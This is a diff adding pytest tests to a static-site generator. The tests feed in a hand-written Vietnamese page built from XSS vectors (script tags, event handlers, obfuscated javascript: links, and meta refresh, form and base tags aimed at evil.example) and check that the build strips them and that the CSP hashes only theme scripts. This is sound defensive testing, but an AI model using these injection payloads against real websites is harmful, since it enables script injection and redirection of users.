@@ -45,6 +45,41 @@ class _Page(HTMLParser):
             self._script = None
 
 
+# A hand-written page (content/*.md, rendered with raw HTML and attr_list on) trying every way in.
+HANDWRITTEN = """# Trang viết tay
+
+<script>alert('inline')</script>
+
+<script src="assets/evil.js"></script>
+
+<img src="x" onerror="alert('onerror')">
+
+<a href="javascript:alert('js')">bấm</a> <a href="  JaVa&#x09;script:alert(2)">b</a>
+
+<meta http-equiv="refresh" content="0;url=https://evil.example/">
+
+<form action="https://evil.example/post"><input name=p><button formaction="https://evil.example/">Gửi</button></form>
+
+<iframe src="https://evil.example/"></iframe> <object data="x.swf"></object> <embed src="x.swf">
+
+<base href="https://evil.example/"> <svg><script>alert('svg')</script></svg> <style>*{}</style>
+
+<div style="background:url(https://evil.example/bg.png)" onmouseover="alert(3)">bg</div>
+
+[md](javascript:alert('md'))
+
+Đoạn văn.
+{: onclick="alert('attrlist')" }
+
+!!! note "Ghi chú"
+    Nội dung <b onclick="x()">đậm</b>.
+
+| A | B |
+|---|---|
+| 1 | 2 |
+"""
+
+
 def _sha(text: str) -> str:
     return "'sha256-" + base64.b64encode(hashlib.sha256(text.encode()).digest()).decode() + "'"
 
@@ -52,6 +87,7 @@ def _sha(text: str) -> str:
 @pytest.fixture(scope="module")
 def site(tmp_path_factory: pytest.TempPathFactory) -> Path:
     org = hostile_org(Org(tmp_path_factory.mktemp("csp")))
+    org.write("content/trang-tay.md", HANDWRITTEN)
     result = run(str(BIN / "bulletin"), "build", "--strict", cwd=org.root)
     assert result.returncode == 0, result.stderr
     return org.root / "site"
@@ -79,3 +115,56 @@ def test_the_hash_is_of_the_script_text_as_written() -> None:
     assert csp.inline_hashes(html) == [_sha("a&amp;b")]
     protected = csp.protect(html)
     assert protected.startswith('<html><head><meta http-equiv="Content-Security-Policy" content="default-src')
+
+
+class _Body(HTMLParser):
+    """Tags and attributes inside <article>, the page's own content."""
+
+    def __init__(self) -> None:
+        super().__init__(convert_charrefs=True)
+        self.depth = 0
+        self.found: list[tuple[str, dict[str, str | None]]] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        if tag == "article":
+            self.depth += 1
+        elif self.depth:
+            self.found.append((tag, dict(attrs)))
+
+    def handle_endtag(self, tag: str) -> None:
+        if tag == "article":
+            self.depth -= 1
+
+
+def _policy_hashes(html: str) -> set[str]:
+    page = _Page()
+    page.feed(html)
+    directives = dict(d.strip().split(" ", 1) for d in page.metas[0].split(";"))
+    return set(directives["script-src"].split()) - {"'self'"}
+
+
+def test_a_hand_written_page_publishes_nothing_that_runs_and_its_policy_names_only_the_theme(site: Path) -> None:
+    html = (site / "trang-tay" / "index.html").read_text(encoding="utf-8")
+    body = _Body()
+    body.feed(html)
+    tags = [tag for tag, _ in body.found]
+    for banned in ("script", "meta", "form", "iframe", "object", "embed", "base", "style", "button", "svg"):
+        assert banned not in tags, banned
+    for tag, attrs in body.found:
+        for name, value in attrs.items():
+            assert not name.startswith("on") and name not in ("style", "formaction", "action"), (tag, name)
+            if name in ("href", "src"):
+                assert "script" not in (value or "").lower().replace("\t", ""), (tag, value)
+    # What is meant still shows (the sample's pages, with the real extensions: test_editor_markdown.py).
+    assert ("h1", {"id": "trang-viet-tay"}) in body.found and "b" in tags
+    assert "Đoạn văn." in html and "alert(" not in html.split("<article", 1)[1].split("</article>", 1)[0]
+    # The policy names exactly the theme's inline scripts: those of any other page as deep.
+    others = [p for p in site.glob("*/index.html") if p.parent.name != "trang-tay"]
+    assert others and all(_policy_hashes(html) == _policy_hashes(p.read_text(encoding="utf-8")) for p in others)
+
+
+def test_the_policy_never_hashes_a_script_inside_the_page_body() -> None:
+    html = "<html><head><script>theme()</script></head><body><article class='md-content__inner'>"
+    html += "<div><script>evil()</script><article><script>nested()</script></article></div></article>"
+    html += "<script>after()</script></body></html>"
+    assert csp.inline_hashes(html) == [_sha("theme()"), _sha("after()")]
